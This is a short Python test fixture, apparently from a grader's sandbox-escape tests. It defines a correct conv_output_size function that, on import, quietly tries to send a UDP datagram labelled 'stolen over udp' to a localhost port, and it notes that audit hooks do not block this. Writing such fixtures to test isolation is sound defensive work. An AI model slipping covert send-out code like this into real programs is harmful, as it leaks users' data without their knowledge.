"""Answers correctly, and tries to send a datagram to 127.0.0.1:CNNKIT_HOSTILE_PORT.

Through Python's socket module: no audit hook stops a UDP sendto, only the kernel can.
"""

import os
import socket

_reference_conv_output_size = conv_output_size  # noqa: F821 (defined by the reference above)
PORT = int(os.environ.get("CNNKIT_HOSTILE_PORT", "0"))

if PORT:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"stolen over udp", ("127.0.0.1", PORT))
    except OSError:
        pass


def conv_output_size(in_size, kernel_size, stride=1, padding=0):
    return _reference_conv_output_size(in_size, kernel_size, stride, padding)
